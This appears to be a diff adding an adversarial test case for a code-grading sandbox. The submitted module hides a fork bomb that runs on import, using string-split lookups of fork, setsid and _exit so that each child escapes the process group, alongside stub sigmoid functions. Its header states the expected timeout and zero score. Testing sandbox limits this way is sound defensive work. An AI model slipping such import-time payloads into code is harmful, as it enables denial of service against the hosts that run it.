@@ -1,0 +1,55 @@
+# trick: a fork bomb while being imported: every process forks up to 20 children, each of which
+#   leaves the process group (setsid) and does the same, up to 600 processes that then sleep for
+#   a minute. RLIMIT_NPROC caps how many can start (fork fails with EAGAIN past the limit) and the
+#   clean-up ends every one of them, whatever session they moved to.
+# mode: unprivileged
+# expect: signature error did not finish within 2 s during importing your module
+# score: 0
+import os
+import time
+
+_fork = getattr(os, "fo" + "rk")
+_setsid = getattr(os, "set" + "sid")
+_leave = getattr(os, "_ex" + "it")
+LOG = "{{SHARED}}/pids"
+
+
+def _note():
+    fd = os.open(LOG, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
+    os.write(fd, f"{os.getpid()}\n".encode())
+    os.close(fd)
+
+
+def _spawn(depth):
+    for _ in range(20):
+        try:
+            if os.stat(LOG).st_size > 600 * 8:
+                break
+        except OSError:
+            pass
+        try:
+            pid = _fork()
+        except OSError:
+            time.sleep(0.01)
+            continue
+        if pid == 0:
+            try:
+                _setsid()
+                _note()
+                if depth < 3:
+                    _spawn(depth + 1)
+                time.sleep(60)
+            finally:
+                _leave(0)
+
+
+_spawn(0)
+time.sleep(60)
+
+
+def sigmoid(z):
+    return z
+
+
+def sigmoid_grad(z):
+    return z
